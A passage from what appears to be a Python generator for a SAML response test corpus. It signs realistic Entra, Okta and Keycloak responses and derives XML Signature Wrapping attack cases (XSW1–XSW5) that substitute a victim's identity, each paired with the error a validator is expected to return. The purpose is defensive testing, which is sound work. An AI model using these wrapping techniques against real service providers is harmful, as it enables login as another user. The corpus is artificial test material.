            f.write(text if isinstance(text, bytes) else text.encode("utf-8"))
        cmd = ["xmlsec1", "--sign"]
        if hmac_key is not None:
            cmd += ["--hmackey", hmac_key]
        else:
            cmd += ["--privkey-pem", key + ("," + cert if cert else "")]
        cmd += ID_ATTRS + ["--node-xpath", xpath, "--output", dst, src]
        run(cmd)
        with open(dst, "rb") as f:
            return f.read()


def xmlsec_verify(data, cert, xpath, keydata="rsa,x509"):
    with tempfile.TemporaryDirectory() as tmp:
        src = os.path.join(tmp, "in.xml")
        with open(src, "wb") as f:
            f.write(data)
        cmd = ["xmlsec1", "--verify", "--pubkey-cert-pem", cert, "--enabled-key-data", keydata,
               "--enabled-reference-uris", "same-doc,empty"] + ID_ATTRS + [
            "--node-xpath", xpath, src]
        p = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        return p.returncode == 0, (p.stdout + p.stderr).decode(errors="replace")


B64_ELEMENTS = ("SignatureValue", "X509Certificate", "Modulus", "Exponent")


def reformat_b64(text, mode):
    """Rewrites the base64 in SignatureValue / X509Certificate / KeyValue (never in SignedInfo)."""
    if mode == "xmlsec":
        return text

    def fix(m):
        body = re.sub(r"(?:\s|&#13;|&#xD;)+", "", m.group(2))
        if not body:
            return m.group(0)
        if mode == "single":
            pass
        elif mode == "wrap76cr":
            body = "&#13;\n".join(body[i:i + 76] for i in range(0, len(body), 76))
        return m.group(1) + body + m.group(3)

    names = "|".join(B64_ELEMENTS)
    return re.sub(r"(<(?:[A-Za-z0-9_]+:)?(?:%s)>)([^<]*)(</(?:[A-Za-z0-9_]+:)?(?:%s)>)"
                  % (names, names), fix, text)


def strip_keyvalue_ws(text):
    # xmlsec1 pretty-prints <KeyValue>; collapse that whitespace for single-line styles
    return re.sub(r"(<(?:\w+:)?KeyValue>)(.*?)(</(?:\w+:)?KeyValue>)",
                  lambda m: m.group(1) + re.sub(r">\s+<", "><", m.group(2)) + m.group(3),
                  text, flags=re.S)


def entra_attribute_order(text):
    """libxml2 writes namespace declarations first; Entra writes them after the attributes
    (`<samlp:Response ID=... xmlns:samlp=...>`). Attribute order does not change the canonical
    form, so this is safe after signing."""
    text = re.sub(r'<samlp:Response (xmlns:samlp="[^"]*") ([^>]*?)(/?)>',
                  r'<samlp:Response \2 \1\3>', text, count=1)
    text = re.sub(r'<Assertion (xmlns="[^"]*") ([^>]*?)(/?)>', r'<Assertion \2 \1\3>', text)
    return text


class Signer:
    def __init__(self, km):
        self.km = km

    def sign_doc(self, doc, pretty=False, key="idp", cert=None, decl="style", crlf=False,
                 bom=False, b64="style", verify=True, extra_prolog="", epilog="",
                 hmac_key=None):
        """Renders `doc`, signs each Signature template (assertion first), returns bytes."""
        cert = cert or key
        body = doc.root.render(pretty)
        text = '<?xml version="1.0" encoding="UTF-8"?>\n' + body + "\n"
        b64mode = doc.b64 if b64 == "style" else b64
        for target in doc.sign_targets:
            xp = xpath_of(doc.root, target)
            out = xmlsec_sign(text, xp, self.km.key(key), self.km.crt(cert)
                              if cert != "none" else None, hmac_key=hmac_key).decode("utf-8")
            if b64mode != "xmlsec":
                out = strip_keyvalue_ws(out)
            text = reformat_b64(out, b64mode)
        if doc.style.startswith("entra"):
            text = entra_attribute_order(text)
        data = text.encode("utf-8")
        if verify and doc.sign_targets:
            for target in doc.sign_targets:
                ok, msg = xmlsec_verify(data, self.km.crt(key), xpath_of(doc.root, target))
                if not ok:
                    die("xmlsec1 --verify failed on a freshly signed document:\n%s\n%s"
                        % (msg, data.decode()))
        # prolog handling
        m = re.match(rb"<\?xml[^?]*\?>\n?", data)
        rest = data[m.end():] if m else data
        rest = rest.rstrip(b"\n")
        if decl == "style":
            decl = doc.decl
        prolog = (decl + "\n") if decl else ""
        out = (prolog + extra_prolog).encode() + rest + epilog.encode()
        if crlf:
            out = out.replace(b"\n", b"\r\n")
        if bom:
            out = b"\xef\xbb\xbf" + out
        return out


# ---------------------------------------------------------------------------------------------
# lxml helpers for derived cases

PARSER = etree.XMLParser(remove_comments=False, remove_pis=False, strip_cdata=False,
                         resolve_entities=False, no_network=True, huge_tree=False,
                         remove_blank_text=False)


def parse(data):
    m = re.match(rb"(\xef\xbb\xbf)?(<\?xml[^?]*\?>\s*)?", data)
    prolog = data[:m.end()] if m else b""
    tree = etree.fromstring(data, PARSER).getroottree()
    return tree, prolog


def serialize(tree, prolog=b""):
    return prolog + etree.tostring(tree, encoding="UTF-8", xml_declaration=False)


def q(ns, local):
    return "{%s}%s" % (ns, local)


def kids(el, ns=None, local=None):
    out = []
    for c in el:
        if not isinstance(c.tag, str):
            continue
        if local is not None and etree.QName(c).localname != local:
            continue
        if ns is not None and etree.QName(c).namespace != ns:
            continue
        out.append(c)
    return out


def the_assertion(root):
    return kids(root, NS_A, "Assertion")[0]


def sig_of(el):
    s = kids(el, NS_DS, "Signature")
    return s[0] if s else None


def detach(el):
    """Removes `el` but keeps its tail text in place (as the enveloped transform does)."""
    parent = el.getparent()
    tail = el.tail
    prev = el.getprevious()
    parent.remove(el)
    if tail:
        if prev is not None:
            prev.tail = (prev.tail or "") + tail
        else:
            parent.text = (parent.text or "") + tail



def new_el(parent, tag, index=None, nsmap=None):
    """Creates a child of `parent` (reusing the parent's prefixes) and moves it to `index`."""
    el = etree.SubElement(parent, tag, nsmap=nsmap) if nsmap else etree.SubElement(parent, tag)
    if index is not None:
        parent.remove(el)
        parent.insert(index, el)
    return el


def replace_text(el, old, new):
    """SAMLRaider's applyMatchAndReplaceValues: replace text nodes equal to `old`."""
    for node in el.iter():
        if not isinstance(node.tag, str):
            if node.tail == old:
                node.tail = new
            continue
        if node.text == old:
            node.text = new
        if node.tail == old:
            node.tail = new
    return el


def make_evil(el):
    return replace_text(el, USER, VICTIM)


def digest_b64(el, alg="sha256", prefixes=None):
    """The digest an attacker computes for `el` (its own Signature child removed)."""
    el = copy.deepcopy(el)
    s = sig_of(el)
    if s is not None:
        detach(s)
    return base64.b64encode(hashlib.new(alg, oracle.c14n(el, prefixes)).digest()).decode()



# ---------------------------------------------------------------------------------------------
# Case registry


class Registry:
    def __init__(self, out, km):
        self.out = out
        self.km = km
        self.cases = {}
        self.files = {}

    def add(self, name, category, threat, invariant, expect, data=None, config=None,
            identity=None, encoding="xml", generate=None, description="", oracle_check=True,
            share=None):
        if name in self.cases:
            die("duplicate case name %s" % name)
        if not re.fullmatch(r"[a-z0-9][a-z0-9_]*", name):
            die("bad case name %s" % name)
        if category not in CATEGORIES:
            die("bad category %s" % category)
        if expect not in ERROR_CODES:
            die("unknown expect code %s in %s" % (expect, name))
        if expect == "valid" and identity is None:
            die("valid case %s needs an identity" % name)
        if expect != "valid":
            identity = None
        ext = {"xml": ".xml", "base64": ".b64"}[encoding]
        if share is not None:
            data = self.cases[share]["_data"]
        entry = {
            "name": name,
            "file": (self.cases[share]["file"] if share else (name + ext))
            if generate is None else None,
            "encoding": encoding,
            "category": category,
            "threat": threat,
            "invariant": invariant,
            "expect": expect,
            "config": config or {},
        }
        if identity is not None:
            entry["identity"] = identity
        if generate is not None:
            entry["generate"] = generate
        if description:
            entry["description"] = description
        self.cases[name] = entry
        if generate is None and share is None:
            if isinstance(data, str):
                data = data.encode("utf-8")
            self.files[entry["file"]] = data
        entry["_check"] = oracle_check
        entry["_data"] = data
        return entry


# ---------------------------------------------------------------------------------------------
# Case builders. Each function adds its cases to the registry `reg` and returns what later
# sections reuse. `S` is the Signer. Threat strings point into
# /work/shared/docs/threats.md (copied into the repository's docs as the attack catalogue).

CFG_OKTA = {"idpEntityId": OKTA_ENTITY}
CFG_KEYCLOAK = {"idpEntityId": KEYCLOAK_ENTITY}


def cfg_for(doc):
    return {"idpEntityId": doc.idp} if doc.idp != IDP_ENTITY else {}


def legit_cases(reg, S):
    bases = {}

    def legit(name, doc, threat="threats.md §11 legit regression set", invariant="V2",
              config=None, description="", expect="valid", **sign_kw):
        data = S.sign_doc(doc, **sign_kw)
        cfg = dict(cfg_for(doc))
        cfg.update(config or {})
        reg.add(name, "legit", threat, invariant, expect, data, cfg,
                doc.identity if expect == "valid" else None, description=description)
        bases[name] = (doc, data)
        return data

    # Entra ID, the shapes it really sends
    for style in ("entra2021", "entra2014"):
        for sign in ("assertion", "response", "both"):
            for pretty in (False, True):
                name = "%s_%s_signed_%s" % (style, sign, "pretty" if pretty else "compact")
                legit(name, build(name, style, sign=sign), pretty=pretty,
                      threat="threats.md §11.1/§11.3 Entra %s shape, %s signed" % (style, sign),
                      invariant="V5",
                      description="Microsoft Entra ID %s response, %s signed, %s"
                      % (style[5:], sign, "pretty-printed" if pretty else "single line"))
    name = "entra2021_assertion_signed_compact_no_keyinfo"
    legit(name, build(name, keyinfo=None, attributes=small_entra_claims(name)),
          threat="threats.md §11.10 no KeyInfo (base of most derived cases)", invariant="V10",
          description="the Entra default without KeyInfo and with a customised claim set "
          "(objectidentifier, displayname, name, surname), single line: the small base that most "
          "derived attack/XML cases start from")
    legit("entra2021_assertion_signed_crlf", build("entra2021_assertion_signed_crlf"),
          pretty=True, crlf=True, threat="threats.md §11.5 CRLF line endings",
          description="pretty-printed with CRLF line endings everywhere (also inside base64)")
    legit("entra2021_assertion_signed_lone_cr", build("entra2021_assertion_signed_lone_cr"),
          pretty=True, decl="<?xml version=\"1.0\" encoding=\"UTF-8\"?>",
          description="line ends are lone CR characters (normalised to LF by the parser)",
          threat="threats.md §8.2 CR/LF variants", invariant="V12")
    # lone CR: patch after signing (outside all text values that matter)
    doc, data = bases["entra2021_assertion_signed_lone_cr"]
    reg.cases["entra2021_assertion_signed_lone_cr"]["_data"] = data.replace(b"\n", b"\r")
    reg.files["entra2021_assertion_signed_lone_cr.xml"] = data.replace(b"\n", b"\r")

    for alg in ("sha384", "sha512"):
        name = "entra2021_assertion_signed_%s" % alg
        legit(name, build(name, sig_alg="rsa-" + alg, digest_alg=alg), pretty=True,
              threat="threats.md §7.3 / §11.11 RSA-%s" % alg.upper(), invariant="V9",
              description="rsa-%s + %s digest (xmlsec1 wraps the 88-char DigestValue)"
              % (alg, alg))
    legit("entra2021_both_signed_sha512_compact",
          build("entra2021_both_signed_sha512_compact", sign="both", sig_alg="rsa-sha512",
                digest_alg="sha512"), threat="threats.md §11.11", invariant="V9")
    legit("entra2021_response_signed_mixed_sha256_sha512",
          build("entra2021_response_signed_mixed_sha256_sha512", sign="response",
                sig_alg="rsa-sha512", digest_alg="sha256"),
          threat="threats.md §11.11", invariant="V9",
          description="rsa-sha512 signature over a sha256 digest")

    # SHA-1 policy
    name = "entra2021_assertion_signed_sha1"
    legit(name, build(name, sig_alg="rsa-sha1", digest_alg="sha1"), pretty=True,
          expect="signature_sha1_not_allowed", threat="threats.md §7.3 rsa-sha1 / sha1 (policy)",
          invariant="V9", description="Entra 'SHA-1' signing option; refused by default")
    reg.add("entra2021_assertion_signed_sha1_allowed", "legit",
            "threats.md §7.3 rsa-sha1 (allowSha1)", "V9", "valid", config={"allowSha1": True},
            identity=bases[name][0].identity, share=name,
            description="same file as entra2021_assertion_signed_sha1, accepted with allowSha1")
    name = "entra2021_assertion_signed_sha1_digest"
    legit(name, build(name, sig_alg="rsa-sha256", digest_alg="sha1"),
          expect="signature_sha1_not_allowed", threat="threats.md §7.3 sha1 DigestMethod",
          invariant="V9", description="rsa-sha256 SignatureMethod with a sha1 DigestMethod")
    reg.add(name + "_allowed", "legit", "threats.md §7.3 sha1 digest (allowSha1)", "V9", "valid",
            config={"allowSha1": True}, identity=bases[name][0].identity, share=name)
    name = "entra2021_assertion_signed_rsa_sha1_sha256_digest"
    legit(name, build(name, sig_alg="rsa-sha1", digest_alg="sha256"),
          expect="signature_sha1_not_allowed", threat="threats.md §7.3 rsa-sha1",
          invariant="V9")

    # certificate rollover
    name = "entra2021_rollover_idp2"
    legit(name, build(name), key="idp2", config={"idpCerts": ["idp.crt", "idp2.crt"]},
          threat="threats.md §11 / entra-and-workers.md §0.1 certificate rollover",
          invariant="V10", description="signed with the second (new) IdP certificate; both "
          "certificates configured")
    reg.add(name + "_only_new_cert", "legit", "certificate rollover", "V10", "valid",
            config={"idpCerts": ["idp2.crt"]}, identity=bases[name][0].identity, share=name)
    reg.add(name + "_only_old_cert", "legit", "certificate rollover", "V10",
            "signature_invalid", config={"idpCerts": ["idp.crt"]}, share=name,
            description="the signing certificate is not configured")

    # IdP-initiated
    name = "entra2021_idp_initiated"
    legit(name, build(name, resp_irt=None, scd_irt=None), expect="unsolicited_response",
          threat="threats.md §9 unsolicited response", invariant="V14",
          description="IdP-initiated (no InResponseTo anywhere); refused unless allowUnsolicited")
    ident = bases[name][0].identity
    reg.add(name + "_allowed", "legit", "threats.md §9 unsolicited response", "V14", "valid",
            config={"allowUnsolicited": True}, identity=ident, share=name)
    reg.add(name + "_no_request_allowed", "legit", "threats.md §9 unsolicited response", "V14",
            "valid", config={"allowUnsolicited": True, "requestId": None}, identity=ident,
            share=name)
    reg.add(name + "_no_request_not_allowed", "legit", "threats.md §9 unsolicited response",
            "V14", "unsolicited_response", config={"requestId": None}, share=name)

    # signed error response (Entra's AADSTS75006 shape)
    name = "entra2021_error_response_signed"
    doc = build(name, sign="response", status="urn:oasis:names:tc:SAML:2.0:status:Requester")
    doc.resp.remove(doc.assertion)
    st = doc.resp.child("Status")
    st.kids[0].kids.append(El("samlp:StatusCode",
                              [("Value", "urn:oasis:names:tc:SAML:2.0:status:RequestUnsupported")]))
    st.kids.append(El("samlp:StatusMessage", [], [
        "AADSTS75006: An error occurred while processing a SAML2 Authentication request. "
        "AADSTS90011: The SAML authentication request property "
        "'NameIdentifierPolicy/SPNameQualifier' is not supported. Trace ID: "
        "4c1f1bde-5a0e-4c5b-9d0a-7f5c0e3a1b00 Correlation ID: "
        "9a8b7c6d-5e4f-4a3b-2c1d-0e9f8a7b6c5d Timestamp: " + rel("2026-01-15 10:00:00Z")]))
    legit(name, doc, pretty=True, expect="status_not_success",
          threat="threats.md §9 Status Requester / entra-and-workers.md §A.1 failure response",
          invariant="V14", description="signed Requester/RequestUnsupported error response")

    # 150 group claims
    name = "entra2021_groups150"
    legit(name, build(name, groups=150), pretty=True,
          threat="entra-and-workers.md §A.1 groups claim",
          invariant="V12", description="Entra response with 150 group claims (~20 KB)")

    # Okta and Keycloak
    for sign in ("response", "assertion", "both"):
        name = "okta_%s_signed" % sign
        legit(name, build(name, "okta", sign=sign), pretty=True,
              threat="threats.md §11.3/§11.4 saml2p:/saml2:, xs:string, PrefixList=\"xs\"",
              invariant="V5")
    for sign in ("both", "assertion"):
        name = "keycloak_%s_signed" % sign
        legit(name, build(name, "keycloak", sign=sign), pretty=True,
              threat="threats.md §11.3 samlp:/saml:, dsig: prefix, &#13; in base64",
              invariant="V5")

    # ---- §11 regression set
    name = "legit_ds_ns_on_root"
    doc = build(name, "entra2014", sign="both")
    for s in doc.sign_targets:
        s.set("xmlns:ds", None)
    doc.resp.attrs.insert(0, ("xmlns:ds", NS_DS))
    legit(name, doc, pretty=True, threat="threats.md §11.3 ds namespace declared on the root",
          invariant="V13")
    name = "legit_prefixlist_default_xs"
    legit(name, build(name, "okta", sign="both", prefixlist="#default xs"), pretty=True,
          threat="threats.md §11.4 PrefixList=\"#default xs\"", invariant="V13")
    name = "legit_unused_and_redundant_ns"
    doc = build(name, "entra2021", sign="both",
                extra_ns=[("xmlns:xsd", NS_XS), ("xmlns:unused", "urn:example:unused")])
    doc.assertion.attrs.append(("xmlns:samlp", NS_P))
    doc.assertion.attrs.append(("xmlns:other", "urn:example:other"))
    doc.assertion.find("Subject").attrs.append(("xmlns", NS_A))
    legit(name, doc, pretty=True, threat="threats.md §11.4 unused / redundant namespace "
          "declarations", invariant="V13")
    name = "legit_xmlns_empty_nested"
    doc = build(name, "entra2021")
    cond = doc.assertion.child("Conditions")

    def prefixed(el):
        el.name = "saml:" + el.local
        for k in el.els():
            prefixed(k)
    prefixed(cond)
    cond.attrs = [("xmlns:saml", NS_A), ("xmlns", "")] + cond.attrs
    legit(name, doc, pretty=True, threat="threats.md §6.7 / §11.4 xmlns=\"\" on a nested element",
          invariant="V13", description="saml:Conditions carries xmlns:saml and xmlns=\"\" inside "
          "the default-namespace Assertion")
    name = "legit_whitespace_in_base64"
    legit(name, build(name, sign="both", digest_alg="sha512", sig_alg="rsa-sha512"),
          pretty=True, b64="xmlsec",
          threat="threats.md §11.6 line breaks in SignatureValue/DigestValue/X509Certificate",
          invariant="V12")
    name = "legit_ampersand_urls"
    acs_amp = ACS + "?tenant=contoso&flow=sso"
    attrs = entra_claims(case=name) + [dict(name="returnUrl", values=[
        Val("https://app.example.com/after?x=1&y=2")])]
    legit(name, build(name, sign="both", destination=acs_amp, recipient=acs_amp,
                      attributes=attrs), pretty=True, config={"acsUrl": acs_amp},
          threat="threats.md §11.7 &amp; in URLs and attribute values", invariant="V12")
    name = "legit_cr_charref_in_value"
    attrs = entra_claims(case=name) + [dict(name="address", values=[
        Val("1 Main St\r\nSpringfield", raw="1 Main St&#13;\nSpringfield")])]
    legit(name, build(name, attributes=attrs), pretty=True,
          threat="threats.md §4 / §11.7 &#13; in values", invariant="V12")
    name = "legit_non_ascii"
    attrs = entra_claims(case=name)
    for a in attrs:
        if a["name"].endswith("displayname"):
            a["values"] = [Val("Bérénice Ñúñez – 東京")]
        if a["name"].endswith("givenname"):
            a["values"] = [Val("Bérénice")]
    attrs.append(dict(name="département", values=[Val("Génie logiciel")]))
    legit(name, build(name, attributes=attrs, nameid="bérénice.ñúñez@contoso.com"),
          pretty=True, threat="threats.md §11.7 non-ASCII UTF-8", invariant="V12")
    name = "legit_escaped_markup_in_text"
    attrs = entra_claims(case=name) + [dict(name="note", values=[
        Val("a <b> & \"c\" 'd'", raw="a &lt;b&gt; &amp; \"c\" 'd'")])]
    legit(name, build(name, attributes=attrs), pretty=True,
          threat="threats.md §11.7 entity-escaped < and > in text", invariant="V12")
    name = "legit_comments_and_pis_outside_signed"
    doc = build(name)
    doc.resp.kids.insert(doc.resp.index(doc.resp.child("Status")),
                         Raw("<!-- status follows -->"))
    doc.resp.kids.insert(doc.resp.index(doc.assertion), Raw("<?trace id=\"42\"?>"))
    legit(name, doc, pretty=True, decl='<?xml version="1.0" encoding="UTF-8"?>',
          extra_prolog="<!-- generated by the IdP -->\n<?xml-stylesheet type=\"text/xsl\" "
          "href=\"debug.xsl\"?>\n", epilog="\n<!-- end -->\n<?after the-root?>\n",
          threat="threats.md §8.5 / §11.8 comments and PIs outside the signed element",
          invariant="V2")
    name = "legit_comments_inside_signed"
    doc = build(name, sign="both")
    doc.assertion.kids.insert(doc.assertion.index(doc.assertion.child("Subject")),
                              Raw("<!-- subject -->"))
    doc.assertion.find("Subject").kids.insert(1, Raw("<!--confirmation-->"))
    legit(name, doc, pretty=True, threat="threats.md §8.5 comments inside signed elements",
          invariant="V12")
    for nm, decl in (("legit_xml_decl_present", '<?xml version="1.0" encoding="UTF-8"?>'),
                     ("legit_xml_decl_standalone_no",
                      '<?xml version="1.0" encoding="UTF-8" standalone="no"?>'),
                     ("legit_xml_decl_version_only", '<?xml version="1.0"?>'),
                     ("legit_xml_decl_lowercase_utf8", "<?xml version='1.0' encoding='utf-8'?>")):
        legit(nm, build(nm), decl=decl, threat="threats.md §11.8 XML declaration",
              invariant="V2")
    legit("legit_utf8_bom", build("legit_utf8_bom"), bom=True,
          decl='<?xml version="1.0" encoding="UTF-8"?>', threat="threats.md §8.2 UTF-8 BOM",
          invariant="V2")
    legit("legit_utf8_bom_no_decl", build("legit_utf8_bom_no_decl"), bom=True,
          threat="threats.md §8.2 UTF-8 BOM", invariant="V2")
    name = "legit_multiple_attribute_statements"
    claims = entra_claims(case=name)
    legit(name, build(name, attributes=[claims[:5], claims[5:],
                                        [dict(name="role", values=[Val("reader")])]]),
          pretty=True, threat="threats.md §11.9 multiple AttributeStatements", invariant="V11")
    name = "legit_multivalued_and_empty_values"
    attrs = entra_claims(case=name) + [
        dict(name="roles", values=[Val("reader"), Val("writer"), Val("approver")]),
        dict(name="emptyValue", values=[Val("")]),
        dict(name="emptyAndFull", values=[Val(""), Val("x"), Val("")]),
        dict(name="noValues", values=[]),
    ]
    legit(name, build(name, attributes=attrs), pretty=True,
          threat="threats.md §11.9 multi-valued and empty AttributeValue", invariant="V11")
    name = "legit_friendlyname_nameformat"
    attrs = [
        dict(name="urn:oid:0.9.2342.19200300.100.1.3", friendly="mail",
             nameformat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri", values=[Val(USER)]),
        dict(name="givenName", friendly="givenName",
             nameformat="urn:oasis:names:tc:SAML:2.0:attrname-format:basic", values=[Val("B")]),
        dict(name="sn", nameformat="urn:oasis:names:tc:SAML:2.0:attrname-format:unspecified",
             values=[Val("Simon")]),
    ]
    legit(name, build(name, attributes=attrs), pretty=True,
          threat="threats.md §11.9 FriendlyName / NameFormat", invariant="V11")
    legit("legit_no_keyinfo", build("legit_no_keyinfo", keyinfo=None), pretty=True,
          threat="threats.md §11.10 no KeyInfo", invariant="V10")
    legit("legit_keyvalue_instead_of_x509", build("legit_keyvalue_instead_of_x509",
                                                  keyinfo="keyvalue"),
          pretty=True, threat="threats.md §11.10 KeyValue instead of X509Data", invariant="V10")
    name = "legit_issuer_format_entity"
    doc = build(name, sign="both")
    for iss in (doc.resp.child("Issuer"), doc.assertion.child("Issuer")):
        iss.attrs.append(("Format", NAMEID_ENTITY))
    legit(name, doc, threat="threats.md §9 Issuer Format entity", invariant="V14")
    name = "legit_nameid_qualifiers"
    doc = build(name)
    nid = doc.assertion.find("Subject/NameID")
    nid.attrs += [("NameQualifier", IDP_ENTITY), ("SPNameQualifier", SP_ENTITY)]
    legit(name, doc, threat="threats.md §9 NameID qualifiers", invariant="V14")
    name = "legit_extensions_without_assertion"
    doc = build(name)
    doc.resp.insert_after(doc.resp.child("Issuer"), El("samlp:Extensions", [], [
        El("x:TraceContext", [("xmlns:x", "urn:example:trace")], ["00-4bf92f3577b34da6-01"])]))
    legit(name, doc, pretty=True, threat="control for §1 container variants: harmless "
          "samlp:Extensions", invariant="V3")
    name = "legit_advice_without_assertion"
    doc = build(name)
    doc.assertion.insert_after(doc.assertion.child("Conditions"), El("Advice", [], [
        El("AssertionIDRef", [], [make_id(name, "other")])]))
    legit(name, doc, pretty=True, threat="control for threats.md §3 Advice confusion: Advice "
          "with an AssertionIDRef only", invariant="V3")
    name = "legit_audiences_several"
    legit(name, build(name, audiences=("https://other.example.com/", SP_ENTITY)),
          threat="threats.md §9 audience", invariant="V14",
          description="one AudienceRestriction with two Audiences, one of them ours")
    name = "legit_two_audience_restrictions_both_match"
    doc = build(name)
    cond = doc.assertion.child("Conditions")
    cond.kids.append(El("AudienceRestriction", [], [El("Audience", [], [SP_ENTITY]),
                                                    El("Audience", [], ["urn:other"])]))
    legit(name, doc, threat="threats.md §9 two AudienceRestrictions (all must match)",
          invariant="V14")
    name = "legit_extra_audience"
    legit(name, build(name, audiences=("spn:0d1e2f3a-4b5c-6d7e-8f90-a1b2c3d4e5f6",)),
          config={"extraAudiences": ["spn:0d1e2f3a-4b5c-6d7e-8f90-a1b2c3d4e5f6"]},
          threat="entra-and-workers.md §A.1 spn: audience", invariant="V14")
    name = "legit_holder_of_key_then_bearer"
    doc = build(name)
    subj = doc.assertion.child("Subject")
    subj.kids.insert(1, El("SubjectConfirmation", [
        ("Method", "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key")], [
        El("SubjectConfirmationData", [("NotOnOrAfter", ts(BASE - timedelta(days=1)))])]))
    legit(name, doc, pretty=True, threat="threats.md §9 several SubjectConfirmations",
          invariant="V14", description="a non-bearer confirmation (expired) precedes the "
          "valid bearer one; only bearer confirmations count")
    name = "legit_bearer_first_bad_second_good"
    doc = build(name)
    subj = doc.assertion.child("Subject")
    subj.kids.insert(1, El("SubjectConfirmation", [("Method", BEARER)], [
        El("SubjectConfirmationData", [("InResponseTo", REQUEST_ID),
                                       ("NotOnOrAfter", ts(BASE + timedelta(hours=1))),
                                       ("Recipient", "https://other.example.com/acs")])]))
    legit(name, doc, pretty=True, threat="threats.md §9 several SubjectConfirmations "
          "(node-saml double-subjectconfirmation)", invariant="V14",
          description="first bearer confirmation has another Recipient, the second is valid: "
          "the first acceptable one wins")
    name = "legit_conditions_without_times"
    legit(name, build(name, not_before=None, not_on_or_after=None),
          threat="threats.md §9 Conditions times are optional", invariant="V14")
    name = "legit_time_fraction_9_digits"
    legit(name, build(name, not_before=rel("2026-01-15T09:55:00.123456789Z"),
                      not_on_or_after=rel("2026-01-15T11:00:00.000000001Z")),
          threat="threats.md §9 time format: fractional seconds", invariant="V14")
    name = "legit_time_no_fraction"
    legit(name, build(name, not_before=rel("2026-01-15T09:55:00Z"),
                      not_on_or_after=rel("2026-01-15T11:00:00Z"), scd_not_on_or_after=
                      rel("2026-01-15T11:00:00Z")),
          threat="threats.md §9 time format", invariant="V14")
    name = "legit_unsigned_response_fields_ignored"
    doc = build(name, destination="https://evil.example.com/acs", resp_irt="_attacker",
                resp_issuer="https://evil.example.com/")
    doc.resp.set("Version", "3.0")
    legit(name, doc, pretty=True, threat="threats.md §9 unsigned Response wrapping a signed "
          "assertion", invariant="V11", expect="saml_unsupported_version",
          description="only the assertion is signed: the unsigned Response's Version, Issuer, "
          "Destination and InResponseTo are never trusted, but they are still cross-checked "
          "(a check can only reject), so a wrong Version 3.0 is refused first")
    return bases


# ---------------------------------------------------------------------------------------------
# Derived cases


XP_A_SIG = "/*/*[local-name()='Assertion']/*[local-name()='Signature']"
XP_R_SIG = "/*/*[local-name()='Signature']"


class Context:
    def __init__(self, reg, S, km):
        self.reg = reg
        self.S = S
        self.km = km

    # -- helpers ------------------------------------------------------------------------------

    def base(self, name):
        return self.bases[name][1]

    def ident(self, name):
        return self.bases[name][0].identity

    def derive(self, name):
        tree, prolog = parse(self.base(name))
        R = tree.getroot()
        A = kids(R, NS_A, "Assertion")
        return tree, prolog, R, (A[0] if A else None)

    def add(self, name, category, threat, invariant, expect, data, config=None, identity=None,
            description="", **kw):
        if isinstance(data, etree._ElementTree):
            data = serialize(data)
        return self.reg.add(name, category, threat, invariant, expect, data, config, identity,
                            description=description, **kw)

    def resign(self, data, xpath=XP_A_SIG, key="attacker", cert="attacker"):
        """Re-signs the Signature selected by `xpath` with xmlsec1 (used for the attacker)."""
        m = re.match(rb"(\xef\xbb\xbf)?(<\?xml[^?]*\?>\s*)?", data)
        prolog = data[:m.end()]
        body = data[m.end():]
        out = xmlsec_sign(b'<?xml version="1.0" encoding="UTF-8"?>\n' + body, xpath,
                          self.km.key(key), self.km.crt(cert) if cert else None)
        out = re.sub(rb"^<\?xml[^?]*\?>\n", b"", out).rstrip(b"\n")
        return prolog + out

    def sign_doc(self, doc, **kw):
        return self.S.sign_doc(doc, **kw)

    def run_all(self):
        self.bases = legit_cases(self.reg, self.S)
        self.xsw()
        self.wrapping_cves()
        self.text_splits()
        self.signedinfo_games()
        self.algorithms()
        self.prefixlist_games()
        self.exclusion_and_shape()
        self.keys_and_keyinfo()
        self.placement()
        self.parser_differentials()
        self.xml_encoding()
        self.xml_structure()
        self.limits()
        self.semantics()
        self.transport()
        self.encryption()

    # -- §1 XSW1-8 ------------------------------------------------------------------------------

    def xsw(self):
        BR, BB = "entra2021_response_signed_compact", "entra2021_both_signed_compact"
        BA = MIN = "entra2021_assertion_signed_compact_no_keyinfo"
        BAK = "entra2021_assertion_signed_compact"
        T = "threats.md §1 %s"

        def xsw12(name, base, before_sig, fresh):
            tree, prolog, R, A = self.derive(base)
            S = sig_of(R)
            C = copy.deepcopy(R)
            detach(sig_of(C))
            make_evil(the_assertion(R))
            R.set("ID", "_evil_response_ID")
            if fresh:
                the_assertion(R).set("ID", make_id(name, "evil-assertion"))
            if before_sig:
                R.insert(R.index(S), C)
                C.tail = "\n  "
            else:
                S.append(C)
            return serialize(tree, prolog)

        for n, before in (("xsw1", False), ("xsw2", True)):
            desc = ("copy of the signed Response (without its Signature) %s; the outer Response "
                    "is made evil and gets a new ID" % ("inserted right before the Signature"
                                                        if before else "appended inside the "
                                                        "Signature"))
            self.add(n, "attack", T % n.upper(), "V6", "xml_duplicate_id",
                     xsw12(n, BR, before, False), description=desc +
                     "; the evil and the copied assertion share the assertion ID")
            self.add(n + "_fresh_ids", "attack", T % n.upper(), "V3", "unexpected_assertion",
                     xsw12(n + "_fresh_ids", BR, before, True),
                     description=desc + "; evil assertion gets a fresh ID, so the copy's "
                     "assertion (not a direct child of the root) is what is caught")
            self.add(n + "_both_signed", "attack", T % n.upper(), "V6", "xml_duplicate_id",
                     xsw12(n + "_both_signed", BB, before, False))

        def evil_copy(A, name, keep_id=False):
            E = copy.deepcopy(A)
            s = sig_of(E)
            if s is not None:
                detach(s)
            make_evil(E)
            if not keep_id:
                E.set("ID", make_id(name, "evil-assertion"))
            return E

        # XSW3: evil copy before the original
        for base, suffix in ((BA, ""), (BB, "_both_signed")):
            tree, prolog, R, A = self.derive(base)
            E = evil_copy(A, "xsw3" + suffix)
            R.insert(R.index(A), E)
            E.tail = "\n  "
            self.add("xsw3" + suffix, "attack", T % "XSW3", "V3", "unexpected_assertion",
                     serialize(tree, prolog),
                     description="unsigned evil assertion (new ID) inserted before the signed one")
        # XSW4: original nested in the evil copy
        tree, prolog, R, A = self.derive(BA)
        E = evil_copy(A, "xsw4")
        R.append(E)
        E.append(A)
        self.add("xsw4", "attack", T % "XSW4", "V3", "unexpected_assertion",
                 serialize(tree, prolog),
                 description="evil assertion appended to the Response, the signed original "
                 "moved inside it as its last child")
        # XSW5: unsigned copy of the original appended; in-place assertion made evil
        tree, prolog, R, A = self.derive(BA)
        C = copy.deepcopy(A)
        detach(sig_of(C))
        R.append(C)
        make_evil(A)
